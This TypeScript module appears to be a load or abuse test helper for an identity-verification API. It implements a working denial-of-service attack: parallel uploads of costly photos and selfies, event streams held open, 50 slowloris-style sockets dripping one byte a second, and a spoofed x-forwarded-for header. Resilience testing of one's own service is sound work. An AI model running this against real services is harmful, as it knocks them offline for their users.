import { connect } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'

/** What one link holder sent, by the status of the answer. */
export type Tally = Record<string, number>

export interface Attack {
  stop(): Promise<Tally>
}

/** A session with its cookie, the address that its calls come from, and the pictures to send. */
export interface Target {
  url: string
  address: string
  cookie: string
  sessionId: string
  pictures: readonly Uint8Array[]
}

const UPLOADS_AT_ONCE = 4
const STREAMS_AT_ONCE = 8
const SLOW_BODIES = 50

/**
 * Everything that the holder of one link can send at once, as fast as it is answered: costly pictures as document photos
 * and selfies, event streams that stay open, and bodies that drip.
 */
export function attack({ url, address, cookie, sessionId, pictures }: Target): Attack {
  const tally: Tally = {}
  const stopped = new AbortController()
  const { signal } = stopped
  const base = `${url}/api/verification/${sessionId}`
  const headers = { cookie, 'x-forwarded-for': address }
  const count = (what: string) => (tally[what] = (tally[what] ?? 0) + 1)

  async function send(what: string, target: string, init: RequestInit): Promise<Response | null> {
    try {
      const response = await fetch(target, { ...init, signal })
      count(`${what} ${response.status}`)
      return response
    } catch {
      if (!signal.aborted) count(`${what} closed`)
      return null
    }
  }

  async function upload(at: number): Promise<void> {
    for (let n = at; !signal.aborted; n += 1) {
      const form = new FormData()
      const picture = new Blob([new Uint8Array(pictures[n % pictures.length]!)])
      // Documents are limited in number and read in the background; the check of a selfie is limited in time only.
      const isSelfie = at % 2 === 1
      if (isSelfie) form.set('selfie', picture, 'x.jpg')
      else {
        form.set('documentType', 'front')
        form.set('document', picture, 'x.jpg')
      }
      const path = isSelfie ? 'selfie-check' : 'document'
      const response = await send(path, `${base}/${path}`, { method: 'POST', headers, body: form })
      await response?.text().catch(() => {})
      await wait(20)
    }
  }
  async function follow(): Promise<void> {
    while (!signal.aborted) {
      const response = await send('stream', `${base}/events`, { headers })
      // An open stream is left open.
      if (response?.status !== 200) await response?.text().catch(() => {})
      await wait(20)
    }
  }
  function drip(): void {
    const { hostname, port } = new URL(url)
    const socket = connect(Number(port), hostname)
    socket.on('error', () => {})
    socket.write(
      // Another call than the uploads': its limit is its own.
      `POST /api/verification/${sessionId}/liveness HTTP/1.1\r\nhost: x\r\ncookie: ${cookie}\r\ncontent-type: multipart/form-data; boundary=B\r\ncontent-length: 9000000\r\n\r\n`,
    )
    const timer = setInterval(() => socket.write('-'), 1000)
    socket.on('close', () => {
      clearInterval(timer)
      count('slow body closed')
    })
    signal.addEventListener('abort', () => socket.destroy())
  }
  const running = [
    ...Array.from({ length: UPLOADS_AT_ONCE }, (_, at) => upload(at)),
    ...Array.from({ length: STREAMS_AT_ONCE }, follow),
  ]
  for (let n = 0; n < SLOW_BODIES; n += 1) drip()
  return {
    async stop() {
      stopped.abort()
      await Promise.all(running)
      return tally
    },
  }
}
